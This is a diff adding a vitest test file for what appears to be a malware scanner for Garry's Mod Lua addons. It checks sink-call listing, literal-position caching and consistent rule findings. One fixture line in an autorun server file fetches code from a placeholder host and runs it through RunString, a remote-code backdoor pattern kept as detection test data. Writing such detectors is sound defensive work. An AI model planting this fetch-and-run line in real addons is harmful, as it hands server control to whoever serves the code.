@@ -1,0 +1,48 @@
+// The run's shared views: sink calls in the analysis' order, literal positions remembered per
+// file, and the same findings whether a rule runs alone or inside runRules.
+import { describe, expect, it } from 'vitest';
+import { analyzeAddon } from '../analysis/index.js';
+import { loadThreatIntel } from '../intel/index.js';
+import { runRules } from './index.js';
+import { rule as runstring } from './runstring.js';
+import { addonOf } from './ruleTesting.js';
+import { SharedViews } from './shared.js';
+
+const intel = loadThreatIntel();
+
+describe('SharedViews', () => {
+  const analysis = analyzeAddon(
+    addonOf({
+      'lua/autorun/server/sv_x.lua': [
+        'print("hello")',
+        'http.Fetch("https://x.invalid/p", function(body) RunString(body) end)',
+        'game.ConsoleCommand("say hi\\n")',
+      ].join('\n'),
+    }),
+    { intel },
+  );
+  it('lists only sink calls, in order, with their kinds', () => {
+    const sinks = new SharedViews(analysis).sinkCalls();
+    expect(sinks.map((s) => s.ev.api)).toEqual(
+      analysis.calls
+        .map((c) => c.api)
+        .filter((api) => api === 'RunString' || api === 'game.ConsoleCommand'),
+    );
+    expect(sinks.find((s) => s.ev.api === 'RunString')?.exec).toBe(true);
+    expect(sinks.find((s) => s.ev.api === 'game.ConsoleCommand')?.console).toBe(true);
+  });
+  it('finds every position of a literal, overlapping ones too, and remembers them', () => {
+    const views = new SharedViews(analysis);
+    const file = { text: 'aaaa' };
+    const first = views.positionsOf(file, 'aa');
+    expect(first).toEqual([0, 1, 2]);
+    expect(views.positionsOf(file, 'aa')).toBe(first);
+    expect(views.positionsOf(file, 'b')).toEqual([]);
+  });
+  it('gives a rule the same findings alone and inside runRules', () => {
+    const alone = runstring.check({ analysis, intel });
+    expect(alone.length).toBeGreaterThan(0);
+    const inRun = runRules(analysis, intel).filter((f) => f.ruleId === 'runstring');
+    expect(inRun).toEqual(alone);
+  });
+});
